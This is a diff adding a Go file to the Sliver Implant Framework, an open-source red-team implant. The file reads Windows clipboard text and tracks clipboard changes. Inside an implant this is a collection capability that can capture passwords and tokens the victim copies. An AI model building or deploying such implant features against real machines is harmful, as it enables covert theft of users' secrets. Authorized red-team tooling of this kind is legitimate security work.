@@ -0,0 +1,78 @@
+package clipboard
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"errors"
+	"time"
+	"unsafe"
+
+	"github.com/bishopfox/sliver/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	cfUnicodeText = 13
+
+	openRetries = 5
+	openBackoff = 20 * time.Millisecond
+)
+
+// read - Text content of the clipboard, empty if the clipboard has no text
+func read() (string, error) {
+	var err error
+	for attempt := 0; attempt < openRetries; attempt++ {
+		// Another window may have the clipboard open
+		if err = syscalls.OpenClipboard(0); err == nil {
+			break
+		}
+		time.Sleep(openBackoff)
+	}
+	if err != nil {
+		return "", err
+	}
+	defer syscalls.CloseClipboard()
+
+	handle, err := syscalls.GetClipboardData(cfUnicodeText)
+	if err != nil || handle == 0 {
+		return "", nil
+	}
+	ptr, err := syscalls.GlobalLock(handle)
+	if err != nil {
+		return "", err
+	}
+	defer syscalls.GlobalUnlock(handle)
+	if ptr == 0 {
+		return "", errors.New("clipboard data is empty")
+	}
+	text := []uint16{}
+	for offset := uintptr(0); ; offset += 2 {
+		char := *(*uint16)(unsafe.Pointer(ptr + offset))
+		if char == 0 {
+			break
+		}
+		text = append(text, char)
+	}
+	return windows.UTF16ToString(text), nil
+}
+
+// changeCount - Incremented by Windows whenever the clipboard changes
+func changeCount() uint32 {
+	return syscalls.GetClipboardSequenceNumber()
+}